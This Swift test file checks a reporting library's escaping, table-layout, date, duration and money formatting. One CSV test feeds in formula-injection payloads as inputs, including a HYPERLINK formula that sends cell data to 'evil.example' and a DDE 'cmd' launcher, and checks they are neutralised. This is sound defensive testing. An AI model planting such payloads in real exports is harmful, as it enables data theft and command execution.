import Covenant
import CovenantFormat
import CovenantReports
import Testing

@Suite("Report primitives: one escaping, one layout and one formatting per kind")
struct ReportPrimitivesTests {
    @Test(
        "CSV text: commas, quotes or edge spaces quoted, quotes doubled; line breaks and controls shown as their code",
        arguments: [
            ("plain", "plain"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\nlines", "two\\u{A}lines"), ("crlf\r\nend", "crlf\\u{D}\\u{A}end"), (" padded", "\" padded\""),
            ("padded ", "\"padded \""), ("in side", "in side"), ("", ""), ("esc\u{1B}[1m", "esc\\u{1B}[1m"),
            ("rtl\u{202E}txt", "rtl\\u{202E}txt"), ("tab\tinside", "tab\tinside"),
        ])
    func csvField(text: String, expected: String) {
        #expect(Escape.csv(text) == expected)
    }

    @Test(
        "CSV text: a cell a spreadsheet would read as a formula gets a leading quote (OWASP)",
        arguments: [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"),
            ("=1+2", "'=1+2"), ("\tstarts with a tab", "'\tstarts with a tab"),
            ("\rstarts with a return", "\\u{D}starts with a return"), ("a=b", "a=b"), ("C-2026-014", "C-2026-014"),
        ])
    func csvFormula(text: String, expected: String) {
        #expect(Escape.csv(text) == expected)
    }

    @Test("CSV numbers: a negative amount stays a number; a number column is never prefixed")
    func csvNumbers() {
        #expect(Escape.csvNumber("-12.50") == "-12.50")
        #expect(Escape.csv("-12.50") == "'-12.50")
        let document = CSV.document(
            header: ["customer", "nps"], records: [["-Evil", "-20.0"]], numberColumns: ["nps"])
        #expect(document == "customer,nps\n'-Evil,-20.0\n")
    }

    @Test("A CSV document is its header and records, each ending with a line feed")
    func csvDocument() {
        #expect(CSV.document(header: ["a", "b"], records: [["1", "x,y"], ["2", ""]]) == "a,b\n1,\"x,y\"\n2,\n")
    }

    @Test(
        "JSON strings: quotes, backslashes, C0, DEL, C1, U+2028/2029 and bidi controls escaped; other text as it is",
        arguments: [
            ("plain", "\"plain\""), ("a\"b\\c", "\"a\\\"b\\\\c\""), ("tab\there\nnew", "\"tab\\there\\nnew\""),
            ("bell\u{7}del\u{7F}", "\"bell\\u0007del\\u007f\""), ("c1\u{85}sep\u{2028}", "\"c1\\u0085sep\\u2028\""),
            ("bidi\u{202E}\u{2066}\u{200F}\u{61C}", "\"bidi\\u202e\\u2066\\u200f\\u061c\""),
            ("café → 100%", "\"café → 100%\""),
        ])
    func jsonString(text: String, expected: String) {
        #expect(Escape.json(text) == expected)
    }

    @Test("JSON values: expanded puts every member on its line; compactScalars keeps scalar-only containers on one")
    func jsonStyles() {
        let value = JSONValue.object([
            ("a", .integer(1)), ("b", .array([.string("x"), .null])), ("c", .object([])),
            ("d", .array([.object([("e", .bool(true))])])),
        ])
        #expect(
            value.rendered == """
                {
                  "a": 1,
                  "b": [
                    "x",
                    null
                  ],
                  "c": {},
                  "d": [
                    {
                      "e": true
                    }
                  ]
                }

                """)
        #expect(
            value.rendered(.compactScalars) == """
                {
                  "a": 1,
                  "b": ["x", null],
                  "c": {},
                  "d": [
                    {"e": true}
                  ]
                }

                """)
    }

    @Test("Text tables: columns padded to the widest cell, two spaces apart, figures right, a rule unless told")
    func textTable() {
        let rows = [["INC-1", "platform", "3,120"], ["INC-22", "ddos", "0"]]
        #expect(
            TextLayout.table(header: ["id", "cause", "s"], rows: rows, rightAligned: [2]) == [
                "id      cause         s", "------  --------  -----", "INC-1   platform  3,120",
                "INC-22  ddos          0",
            ])
        #expect(
            TextLayout.table(header: ["id", "cause", "s"], rows: rows, rightAligned: [2], indent: "  ", rule: false)
                == ["  id      cause         s", "  INC-1   platform  3,120", "  INC-22  ddos          0"])
    }

    @Test("A 39-character table in 20 columns narrows its widest column to 14 and wraps its cell")
    func textTableWraps() {
        let lines = TextLayout.table(
            header: ["term", "value"], rows: [["cap", "fifty percent of the month's charge"]], width: 20)
        #expect(
            lines == [
                "term  value", "----  --------------", "cap   fifty percent", "      of the month's", "      charge",
            ])
    }

    @Test("Markdown tables: a spaced or compact rule, figure columns aligned right, a bold footer but for blanks")
    func markdownTable() {
        let table = MarkdownTable(
            header: ["Item", "Fee"], rows: [["a", "1"]], footer: ["Total", " "], numericColumns: [1])
        #expect(table.text == "| Item | Fee |\n| --- | ---: |\n| a | 1 |\n| **Total** |   |\n")
        let compact = MarkdownTable(header: ["Item", "Fee"], rows: [], numericColumns: [1], rule: .compact)
        #expect(compact.lines == ["| Item | Fee |", "|---|---:|"])
        for written in [table, compact] {
            #expect(written.text == written.lines.map { $0 + "\n" }.joined())
        }
    }

    @Test("HTML tables: a row a line or an element a line, cells escaped, row and column classes")
    func htmlTable() {
        let compact = HTMLTable(header: ["A", "B"], rows: [["<x>", "1"]], numericColumns: [1]).render()
        #expect(
            compact == """
                <table>
                <thead><tr><th>A</th><th class="num">B</th></tr></thead>
                <tbody>
                <tr><td>&lt;x&gt;</td><td class="num">1</td></tr>
                </tbody>
                </table>

                """)
        let expanded = HTMLTable(
            header: ["N", "S"], rows: [["1", "ok"]], numericColumns: [0], numericClass: "number", rowClasses: ["ok"],
            columnClasses: [1: "status"], layout: .elementPerLine
        ).render()
        #expect(
            expanded == """
                <table>
                <thead>
                <tr>
                <th class="number">N</th>
                <th>S</th>
                </tr>
                </thead>
                <tbody>
                <tr class="ok">
                <td class="number">1</td>
                <td class="status">ok</td>
                </tr>
                </tbody>
                </table>

                """)
    }

    @Test(
        "Durations: from the largest unit present, or in hours for working time",
        arguments: [
            (Int64(3_120), "52m 0s", "0h 52m 0s"), (8_100, "2h 15m 0s", "2h 15m 0s"),
            (273_600, "3d 4h 0m 0s", "76h 0m 0s"), (-90, "-1m 30s", "-0h 1m 30s"), (0, "0m 0s", "0h 0m 0s"),
        ])
    func durations(seconds: Int64, wallClock: String, working: String) {
        #expect(Formatting.duration(seconds) == wallClock)
        #expect(Formatting.hours(seconds) == working)
    }

    @Test("A JSON document written to text reads exactly as its tree rendered: nesting, empties, escapes, extremes")
    func jsonTextMatchesTree() {
        func document<Sink: JSONSink>(_ out: inout Sink) {
            out.object { object in
                object.member("a", Int64(1))
                object.member("min", Int64.min)
                object.member("max", Int64.max)
                object.member("quoted", "say \"hi\"\n\u{1B}")
                object.member("none", optional: nil as String?)
                object.member("b") { $0.array { items in
                    items.string("x")
                    items.null()
                    items.array { _ in }
                    items.object { $0.member("e", true) }
                } }
                object.member("c") { $0.object { _ in } }
                object.member("d", each: [Int64(-5), 0, 12_345]) { $0.integer($1) }
            }
        }
        var tree = JSONTree()
        document(&tree)
        var text = JSONText()
        document(&text)
        #expect(text.text == tree.value.rendered)
        #expect(text.text.contains("\"min\": -9223372036854775808,\n"))
        #expect(text.text.hasSuffix("  \"d\": [\n    -5,\n    0,\n    12345\n  ]\n}\n"))
    }

    @Test(
        "Dates, times and spans are written digit by digit as before",
        arguments: [
            (Int64(0), "0 s"), (59, "59 s"), (60, "1 min"), (3_661, "1 h 1 min 1 s"), (-3_600, "-1 h"),
            (3_600_000, "1,000 h"), (Int64.max, "2,562,047,788,015,215 h 30 min 7 s"),
        ])
    func spans(seconds: Int64, expected: String) {
        #expect(Formatting.span(seconds) == expected)
    }

    @Test("A date is YYYY-MM-DD and a time HH:MM, with seconds only when there are some")
    func datesAndTimes() throws {
        #expect(try #require(LocalDate(year: 2026, month: 3, day: 9)).description == "2026-03-09")
        #expect(try #require(LocalDate(year: 900, month: 12, day: 31)).description == "0900-12-31")
        #expect(TimeOfDay(seconds: 0).description == "00:00")
        #expect(TimeOfDay(seconds: 86_400).description == "24:00")
        #expect(TimeOfDay(seconds: 3_723).description == "01:02:03")
        #expect(Formatting.local(1_770_230_700, .utc) == "2026-02-04 18:45")
    }

    @Test("Figures: grouped by thousands, percentages and decimals without trailing zeros, minutes cut to 2 places")
    func figures() {
        #expect(Formatting.grouped(2_419_200) == "2,419,200")
        #expect(Formatting.grouped(-1_000) == "-1,000")
        #expect(Formatting.grouped(999) == "999")
        #expect(Formatting.percent(DecimalNumber(significand: 99_900, scale: 3)) == "99.9%")
        #expect(Formatting.decimal(DecimalNumber(significand: 1_500, scale: 2)) == "15")
        #expect(Formatting.minutes(13_393) == "223.21")
        #expect(Formatting.utc(1_770_230_700) == "2026-02-04T18:45:00Z")
        #expect(Formatting.utc(-1) == "1969-12-31T23:59:59Z")
    }

    @Test(
        "Money: grouped with the currency's digits; dollars with a sign, other currencies with their code",
        arguments: [
            (Int64(225_000), "USD", "$2,250.00", "2,250.00"), (-150, "USD", "-$1.50", "-1.50"),
            (123_456_789, "EUR", "EUR 1,234,567.89", "1,234,567.89"), (1_500_000, "JPY", "JPY 1,500,000", "1,500,000"),
            (12_345, "KWD", "KWD 12.345", "12.345"), (5, "USD", "$0.05", "0.05"),
        ])
    func money(units: Int64, code: String, expected: String, grouped: String) throws {
        let money = Money(minorUnits: units, currency: try #require(Currency(code: code)))
        #expect(Formatting.money(money) == expected)
        #expect(Formatting.grouped(money) == grouped)
    }
}
